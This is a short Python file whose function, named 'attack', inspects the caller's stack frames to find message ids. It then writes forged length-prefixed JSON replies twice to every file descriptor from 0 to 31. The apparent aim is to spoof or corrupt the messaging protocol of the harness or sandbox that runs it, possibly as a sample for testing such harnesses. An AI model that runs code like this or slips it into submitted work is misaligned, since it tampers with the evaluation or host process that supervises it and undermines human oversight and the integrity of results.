# Takes the id of the message from the frames above, and answers twice.
import json
import os
import sys


def attack(n):
    ids = set()
    frame = sys._getframe(0)
    while frame:
        for value in frame.f_locals.values():
            if isinstance(value, dict) and isinstance(value.get("id"), str):
                ids.add(value["id"])
        frame = frame.f_back
    for known in ids:
        body = json.dumps([known, "returned", 666]).encode()
        for number in range(32):
            try:
                os.write(number, (len(body).to_bytes(4, "big") + body) * 2)
            except OSError:
                pass
    return n
